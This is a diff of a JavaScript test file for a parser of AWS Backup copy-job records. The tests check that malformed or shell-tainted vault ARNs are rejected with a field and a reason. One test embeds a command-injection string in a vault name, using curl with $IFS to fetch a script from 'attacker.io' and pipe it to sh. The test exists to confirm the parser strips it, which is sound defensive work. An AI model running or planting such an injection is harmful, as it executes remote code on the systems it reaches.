@@ -92,12 +92,28 @@ describe('readCopyJob', () => {
     });
   });
 
-  it('leaves out what a malformed ARN cannot give', () => {
+  it('leaves out what a malformed ARN cannot give, and says which field and why', () => {
     const job = readCopyJob(JSON.stringify({ CopyJob: { State: 'failed', SourceBackupVaultArn: 'arn:aws:backup:us-east-1:SourceAccountID:backup-vault:x', DestinationBackupVaultArn: 'not an arn' } }));
     expect(job).toEqual({
       state: 'FAILED',
-      sourceVaultArn: 'arn:aws:backup:us-east-1:SourceAccountID:backup-vault:x',
-      destinationVaultArn: 'not an arn',
+      rejected: [
+        { field: 'SourceBackupVaultArn', kind: 'vaultArn', reason: 'format' },
+        { field: 'DestinationBackupVaultArn', kind: 'vaultArn', reason: 'shell-character' },
+      ],
+    });
+  });
+
+  it('keeps the well-formed parts of an ARN whose vault name is hostile, and never the name', () => {
+    const arn = "arn:aws:backup:eu-west-1:444455556666:backup-vault:central-backup-vault;curl$IFS-s$IFS'attacker.io/p'|sh;#";
+    const job = readCopyJob(JSON.stringify({ CopyJob: { State: 'FAILED', DestinationBackupVaultArn: arn } }));
+    expect(job).toEqual({
+      state: 'FAILED',
+      destinationAccountId: '444455556666',
+      destinationRegion: 'eu-west-1',
+      rejected: [
+        { field: 'DestinationBackupVaultArn', kind: 'vaultArn', reason: 'shell-character' },
+        { field: 'DestinationBackupVaultArn', kind: 'vaultName', reason: 'shell-character', fact: 'destinationVaultName' },
+      ],
     });
   });
 
